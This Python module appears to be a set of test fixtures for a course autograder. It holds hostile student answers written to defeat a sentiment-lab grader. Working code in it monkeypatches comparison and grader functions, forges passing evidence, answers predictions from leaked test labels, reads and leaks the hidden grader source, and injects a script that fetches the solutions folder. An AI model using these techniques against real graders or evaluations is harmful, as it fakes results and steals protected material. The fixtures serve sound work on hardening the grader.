"""Answers written to attack the grader itself (part of the hostile demo class).

Each one is what a student who wants points without the work could hand in, in
the answer cell of the sentiment lab, together with a layer that has a known
mistake (or none). ``expected_scores.csv`` holds each at no more than the honest
answer with the same mistake: the *dot* score (10 in smoke) or the reference
(14 in smoke), or flagged for a person's review where nothing can stop it (the test
labels pasted into the answer). They aim both at checks that would run inside the
student's kernel and at evidence judged outside it.
"""

from __future__ import annotations

DOT_LAYER = """\
class LuongAttention(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def call(self, query, values, mask=None):
        scores = tf.einsum("bu,btu->bt", query, values)   # the dot score: no W_a
        if mask is not None:
            scores = tf.where(mask, scores, -1e9)
        attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights"""

RESTORES_ITS_PATCH = """\
# A comparison that answers "equal" the next two times it is asked, then puts the real one back,
# so that an identity check after the check finds np.allclose unchanged.
_real_allclose, _agreeable = np.allclose, [0]


def _allclose(*args, **kwargs):
    _agreeable[0] -= 1
    if _agreeable[0] <= 0:
        np.allclose = _real_allclose
    return True


class LuongAttention(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def call(self, query, values, mask=None):
        _agreeable[0] = 2            # armed on every call: the checks call the layer, then compare
        np.allclose = _allclose
        scores = tf.einsum("bu,btu->bt", query, values)   # the dot score: no W_a
        if mask is not None:
            scores = tf.where(mask, scores, -1e9)
        attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights"""

REWRITES_GRADER_HELPERS = """\
# Rewrites the grader's helpers that run in this kernel.
import coursekit.checks as _checks
import coursekit.integrity as _integrity

# 1. The tamper report always says that nothing changed.
_real_write = _integrity._write
_integrity._write = lambda report, stream=None: _real_write(
    {"point": report.get("point"), "changed": [], "hooks": []}, stream)
# 2. Every mean is 1.0: an untrained model would "reach" 100% accuracy.
np.mean = lambda *args, **kwargs: 1.0
# 3. The evidence of the checks that matter says they passed.
_real_probe = _checks.run_probe


def _passing_probe(request, objects):
    if request.get("probe") == "review_logits":
        return {"accuracy": 1.0, "passed": True}
    if request.get("randomize"):
        return {"stage": "done", "passed": True, "verdict": "The scores are Luong's general score."}
    return _real_probe(request, objects)


_checks.run_probe = _passing_probe"""

_ORACLE_HOOK = """\
_real_call = keras.Model.__call__
_oracle = {}


def _look_up(tokens, logits):
    found = [_oracle.get(row.tobytes()) for row in tokens]
    if found and all(f is not None for f in found):
        return np.array([10.0 if f == 1 else -10.0 for f in found], "float32")
    return logits


def _oracle_call(self, tokens, *args, **kwargs):
    out = _real_call(self, tokens, *args, **kwargs)
    if not _oracle:
        import __main__
        labels = _find_labels()
        encode = getattr(__main__, "encode_texts", None)
        if labels and encode is not None:
            texts = list(labels)
            _oracle.update({row.tobytes(): labels[t] for row, t in zip(encode(texts), texts)})
    if not _oracle or not isinstance(out, tuple):
        return out
    logits, weights = out
    if tf.is_symbolic_tensor(tokens):
        logits = tf.py_function(lambda t, l: _look_up(t.numpy(), l.numpy()), [tokens, logits], tf.float32)
    else:
        logits = tf.constant(_look_up(np.asarray(tokens), np.asarray(logits)))
    return logits, weights


keras.Model.__call__ = _oracle_call"""
"""Answers the model's predictions from ``_find_labels()`` ({review text: label}), when it finds any."""

LABEL_ORACLE = (
    """\
# Answers every prediction of the test reviews from their labels, wherever it can find them.
import gzip, io, os
import pandas as pd
from coursekit import ROOT, data as _data

_labels_by_text = {}


def _find_labels():
    try:
        test = _data.load_imdb()["test"]
        if test.labels is not None:
            return dict(zip(test.texts, test.labels))
    except Exception:
        pass
    for folder in [ROOT / "data", _data.data_dir(), "/data", os.path.expanduser("~")]:
        try:  # the raw file: its second half is the test set, labels included
            frame = pd.read_csv(os.path.join(folder, _data.IMDB_FILE), keep_default_na=False)
            known = frame.iloc[_data.IMDB_TRAIN_ROWS:]
            if (known["sentiment"] != "").all():
                return dict(zip(known["review"], (known["sentiment"] == "positive").astype(int)))
        except Exception:
            continue
    return {}


"""
    + _ORACLE_HOOK
)

ROW_ORDER_FINDER = """\
# The graded kernel's reviews have no labels, but the bundle's file is sorted: negatives first,
# in training and in test. Answers every test review from its row in the file the kernel reads,
# and where a test review also occurs among the training reviews, from its label there.
import os
import pandas as pd
from coursekit import data as _data


def _find_labels():
    frame = pd.read_csv(os.path.join(_data.data_dir(), _data.IMDB_FILE), keep_default_na=False)
    test = frame["review"].iloc[_data.IMDB_TRAIN_ROWS:].tolist()
    labels = {text: int(row >= len(test) // 2) for row, text in enumerate(test)}
    train = frame.iloc[:_data.IMDB_TRAIN_ROWS]
    seen = dict(zip(train["review"], (train["sentiment"] == "positive").astype(int)))
    return {text: seen.get(text, label) for text, label in labels.items()}


"""
"""How the row-order attack finds its labels (tests/test_withheld_data.py runs it on both layouts)."""

READS_ROW_ORDER = ROW_ORDER_FINDER + _ORACLE_HOOK

_PASTES_TEST_LABELS = (
    """\
# Worked out at home, where the data has every label: the 25,000 test labels, one bit each, in the
# order of the SHA-256 of their text (coursekit.data.grading_order: the graded kernel's order).
import base64, hashlib
from coursekit import data as _data

_LABELS = "@TABLE@"


def _find_labels():
    texts = sorted(_data.load_imdb()["test"].texts, key=lambda text: hashlib.sha256(text.encode()).digest())
    bits = np.unpackbits(np.frombuffer(base64.b64decode(_LABELS), np.uint8))[: len(texts)]
    return dict(zip(texts, bits.tolist()))


"""
    + _ORACLE_HOOK
)


def pastes_test_labels() -> str:
    """The answer of a student who pastes the test labels in: they have them all in student mode."""
    import base64

    import numpy as np

    from coursekit import data

    labels = data.imdb_test_in_grading_order().labels.astype(np.uint8)
    return _PASTES_TEST_LABELS.replace("@TABLE@", base64.b64encode(np.packbits(labels).tobytes()).decode())


_READ_SOURCES = '''\
import base64, inspect, linecache, sys


def _everything_readable():
    """Every line of source this interpreter can see: the calling frames, linecache, the modules."""
    seen = []
    frame = sys._getframe(1)
    while frame is not None:
        try:
            seen.append(inspect.getsource(frame.f_code))
        except (OSError, TypeError):
            pass
        seen.append(repr(frame.f_locals)[:20000])
        frame = frame.f_back
    seen += ["".join(lines) for _, _, lines, _ in list(linecache.cache.values())]
    for name, module in list(sys.modules.items()):
        if "coursegrader" in name or "hidden" in name or "check" in name:
            try:
                seen.append(inspect.getsource(module))
            except (OSError, TypeError):
                pass
    for path in ["/work/main/autograder/coursegrader/hidden/sentiment.py"]:
        try:
            seen.append(open(path).read())
        except OSError:
            pass
    return "\\n".join(seen)


def _in_a_hidden_check():
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_locals.get("grade_id") == "luong_matches_general_score" or "randomize" in str(
                frame.f_locals.get("request", ""))[:4000]:
            return True
        frame = frame.f_back
    return False
'''

LEAKS_THROUGH_EXCEPTION = (
    _READ_SOURCES
    + '''

class LuongAttention(keras.layers.Layer):
    """The reference layer, except that during a hidden check it raises with everything it can read."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.W_a = keras.layers.Dense(units, use_bias=False)

    def call(self, query, values, mask=None):
        if _in_a_hidden_check():
            raise ValueError(_everything_readable()[::-1])   # reversed, so that no line matches as is
        scores = tf.einsum("bu,btu->bt", query, self.W_a(values))
        if mask is not None:
            scores = tf.where(mask, scores, -1e9)
        attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
)

LEAKS_THROUGH_OUTPUT = (
    _READ_SOURCES
    + '''

class LuongAttention(keras.layers.Layer):
    """The reference layer, printing everything it can read, base64- and hex-encoded, at every check."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.W_a = keras.layers.Dense(units, use_bias=False)

    def call(self, query, values, mask=None):
        text = _everything_readable().encode()
        print("training notes:", base64.b64encode(text).decode()[:60000])
        print("more notes:", text.hex()[:20000])
        scores = tf.einsum("bu,btu->bt", query, self.W_a(values))
        if mask is not None:
            scores = tf.where(mask, scores, -1e9)
        attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
)

FORGES_EVIDENCE = (
    DOT_LAYER
    + """


# Hands the grader evidence of its own making: records published from this cell for every check,
# and a second, "better" record next to the real one in each check cell.
import json, os
from IPython.display import publish_display_data
import coursekit.checks.evidence as _evidence

_nonce = ""
try:
    with open(os.environ[_evidence.REQUESTS_VAR]) as _f:
        _grading = json.load(_f)
    _nonce = _grading["nonce"]
    for _gid in _grading["requests"]:
        publish_display_data({_evidence.MIME: {"grade_id": _gid, "nonce": _nonce,
                                               "evidence": {"passed": True}}})
except Exception:
    pass
_real_hand_out = _evidence.hand_out


def _hand_out_twice(grade_id, nonce, found):
    if "context" in found:  # the attention checks: claim one (units, units) matrix, as W_a would have
        found = dict(found, trainable_shapes=[[int(found["context"].shape[-1])] * 2])
    _real_hand_out(grade_id, nonce, {"passed": True, "accuracy": 1.0})
    _real_hand_out(grade_id, nonce, found)


_evidence.hand_out = _hand_out_twice"""
)

INJECTS_SCRIPT = """\
# Displays a script and HTML that would run in whatever page shows this notebook's outputs:
# the feedback page, and formgrader inside the TA's own Jupyter server.
from IPython.display import HTML, Javascript, Markdown, display
_payload = "fetch('/api/contents/solutions').then(r => r.text()).then(t => document.title = t)"
display(HTML(f"<script>{_payload}</script><img src=x onerror=\\"{_payload}\\"><b>20 / 20</b>"))
display(Markdown(f"<img src=x onerror=\\"{_payload}\\"> **all checks passed**"))
display(Javascript(_payload))"""
